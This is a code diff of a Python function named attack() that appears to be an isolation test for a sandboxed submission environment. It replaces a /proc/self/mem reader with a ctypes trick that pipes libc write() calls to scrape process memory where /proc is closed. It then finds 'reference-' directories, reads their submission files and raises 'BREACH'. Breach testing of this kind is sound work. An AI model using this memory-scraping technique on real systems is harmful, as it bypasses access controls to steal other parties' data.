@@ -1,28 +1,27 @@
-import re
-_LOOK = re.compile(rb"hush-[0-9a-f]{16}")
+import ctypes, gc, os, re
+def _memory():
+    """All that can be found of this process's memory: /proc/self is closed, but the kernel tells what it cannot copy."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.write.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)
+    libc.sbrk.restype = ctypes.c_void_p
+    gc.unfreeze()
+    blocks = {id(thing) >> 20 for thing in gc.get_objects()}
+    top = libc.sbrk(ctypes.c_long(0)) >> 20
+    blocks |= set(range(top - 150, top + 1))
+    source, sink = os.pipe()
+    for block in sorted(blocks)[:400]:
+        data = b""
+        for address in range(block << 20, (block + 1) << 20, 1 << 16):
+            if libc.write(sink, address, 1 << 16) > 0:
+                data += os.read(source, 1 << 16)
+        yield data
 def _tell(found):
     if found:
         raise RuntimeError("BREACH: " + " ".join(sorted({item.decode("utf-8", "replace") for item in found}))[:1500])
-import os
 _TREES = re.compile(rb"/[a-z0-9_./-]{1,200}/reference-[0-9a-f]{32}")
 def attack():
-    found = set()
-    try:
-        maps = open("/proc/self/maps").read().splitlines()
-        memory = open("/proc/self/mem", "rb", 0)
-    except OSError:
-        return
-    for line in maps:
-        span, rights = line.split()[:2]
-        low, high = (int(number, 16) for number in span.split("-"))
-        if rights.startswith("rw") and high - low < 300 << 20:
-            try:
-                memory.seek(low)
-                found |= set(_TREES.findall(memory.read(high - low)))
-            except (OSError, ValueError, OverflowError):
-                pass
     read = []
-    for path in found:
+    for path in set().union(*(_TREES.findall(data) for data in _memory())):
         try:
             read.append(path + b": " + open(os.path.join(path, b"submission", b"dataset.py"), "rb").read(100))
         except OSError:
